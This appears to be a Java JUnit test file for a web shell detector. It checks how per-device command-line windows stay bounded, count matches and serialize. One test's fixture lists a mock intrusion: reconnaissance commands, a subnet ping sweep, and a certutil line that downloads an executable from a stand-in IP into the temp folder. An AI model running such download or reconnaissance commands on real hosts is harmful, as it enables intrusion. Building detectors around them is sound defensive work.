package dev.webshell.detector.window;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.webshell.detector.rule.RuleSpec;
import dev.webshell.schema.WebShellAlert;
import java.time.Instant;
import org.junit.jupiter.api.Test;

class DeviceWindowTest {
  private static final RuleSpec RULE = RuleSpec.seed();
  private static final long SECOND = 1_000_000L;
  private static final long DAY = 86_400L * SECOND;
  private static final long T0 = 1_793_000_000L * SECOND;

  private static Match match(long ts, String line) {
    return new Match(
        ts,
        "dev",
        "web01",
        "cmd.exe",
        line,
        Match.hash64(line),
        false,
        "tomcat9.exe",
        null,
        1L,
        2L,
        "svc",
        0L,
        ts,
        false);
  }

  private static DeviceWindow.Outcome add(DeviceWindow w, long ts, String line) {
    return w.add(
        match(ts, line),
        RULE.id(),
        RULE.lookbackMicros(),
        RULE.maxExactEventsPerCommandLine(),
        RULE.maxTrackedCommandLines());
  }

  @Test
  void shouldStayBoundedAndFastUnderAPingEverySecondForAWeekAndMore() {
    DeviceWindow w = new DeviceWindow();
    assertEquals(DeviceWindow.Outcome.EMIT, add(w, T0, "cmd /c ping -n 1 db01"));
    int maxStateBytes = 0;
    long n = 900_000; // ten days of one ping per second
    for (long i = 1; i < n; i++) {
      assertEquals(
          DeviceWindow.Outcome.UNCHANGED, add(w, T0 + i * SECOND, "cmd /c ping -n 1 db01"));
      if (i % 10_000 == 0) {
        maxStateBytes = Math.max(maxStateBytes, DeviceWindowSerde.write(w).length);
      }
    }
    // 64 exact events + at most 169 hourly buckets, whatever the volume
    assertTrue(maxStateBytes < 64 * 1024, "state stays small: " + maxStateBytes + " bytes");
    WebShellAlert a = AlertBuilder.build("dev", w, RULE);
    long expectedInWindow = 7 * 86_400; // (T - 7d, T] at one per second
    assertFalse(a.getCountsExact(), "a bucket straddles the window start");
    assertTrue(
        Math.abs(a.getMatchCount() - expectedInWindow) <= 3600,
        "estimate within one hourly bucket: " + a.getMatchCount());
    assertEquals(Instant.ofEpochSecond(T0 / SECOND + n - 1), a.getLastSeen());
  }

  @Test
  void shouldKeepATypicalIntrusionUnderTwoKilobytesOfState() {
    DeviceWindow w = new DeviceWindow();
    String[] lines = {
      "cmd.exe /c whoami",
      "cmd.exe /c ipconfig /all",
      "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/a.txt %TEMP%\\a.exe",
      "cmd.exe /c for /L %i in (1,1,254) do ping -n 1 -w 200 10.20.30.%i",
      "cmd.exe /c systeminfo"
    };
    for (int i = 0; i < lines.length; i++) {
      add(w, T0 + i * 60 * SECOND, lines[i]);
    }
    int bytes = DeviceWindowSerde.write(w).length;
    System.out.println("state of a 5-command intrusion: " + bytes + " bytes");
    assertTrue(bytes < 2048, bytes + " bytes");
  }

  @Test
  void shouldBeExactAgainOnceTheStraddlingBucketHasLeft() {
    DeviceWindow w = new DeviceWindow();
    for (int i = 0; i < 500; i++) {
      add(w, T0 + i * SECOND, "cmd /c ping x");
    }
    // eight days later everything above has left; a new burst is exact again
    for (int i = 0; i < 10; i++) {
      add(w, T0 + 8 * DAY + i * SECOND, "cmd /c ping x");
    }
    WebShellAlert a = AlertBuilder.build("dev", w, RULE);
    assertTrue(a.getCountsExact());
    assertEquals(10, a.getMatchCount());
  }

  @Test
  void shouldCountExactlyWhileNoBucketStraddlesTheWindowStart() {
    DeviceWindow w = new DeviceWindow();
    for (int i = 0; i < 1000; i++) {
      add(w, T0 + i * 60 * SECOND, "cmd /c whoami"); // one a minute for ~16.7 hours
    }
    WebShellAlert a = AlertBuilder.build("dev", w, RULE);
    assertTrue(a.getCountsExact());
    assertEquals(1000, a.getMatchCount());
    assertEquals(Instant.ofEpochSecond(T0 / SECOND), a.getFirstSeen());
  }

  @Test
  void shouldBoundTrackedCommandLinesAndSaySo() {
    RuleSpec small = RULE.withBounds(RULE.lookback(), 4, 8, 16);
    DeviceWindow w = new DeviceWindow();
    for (int i = 0; i < 100; i++) {
      w.add(
          match(T0 + i * SECOND, "cmd /c ping host" + i),
          small.id(),
          small.lookbackMicros(),
          small.maxExactEventsPerCommandLine(),
          small.maxTrackedCommandLines());
    }
    WebShellAlert a = AlertBuilder.build("dev", w, small);
    assertEquals(16, a.getCommandLineCount());
    assertEquals(4, a.getCommandLines().size());
    assertTrue(a.getTruncated());
    assertFalse(a.getCountsExact());
    assertTrue(DeviceWindowSerde.write(w).length < 16 * 1024);
  }

  @Test
  void shouldRoundTripThroughTheStoreFormat() {
    DeviceWindow w = new DeviceWindow();
    for (int i = 0; i < 300; i++) {
      add(w, T0 + i * 30 * SECOND, "cmd /c ping " + (i % 7));
    }
    DeviceWindow back = DeviceWindowSerde.read(DeviceWindowSerde.write(w));
    assertEquals(
        AlertBuilder.build("dev", w, RULE).toString(),
        AlertBuilder.build("dev", back, RULE).toString());
    assertEquals(DeviceWindow.Outcome.EMIT, add(back, T0 + DAY, "cmd /c whoami"));
    assertEquals(DeviceWindow.Outcome.EMIT, add(w, T0 + DAY, "cmd /c whoami"));
  }

  @Test
  void shouldRoundTripMatchesThroughTheRepartitionFormat() {
    Match m =
        new Match(
            5L,
            "d",
            null,
            "cmd.exe",
            "whoami",
            42L,
            true,
            null,
            "w3wp.exe",
            null,
            7L,
            null,
            9L,
            3L,
            true);
    assertEquals(m, WindowInputSerde.read(WindowInputSerde.write(m)));
  }
}
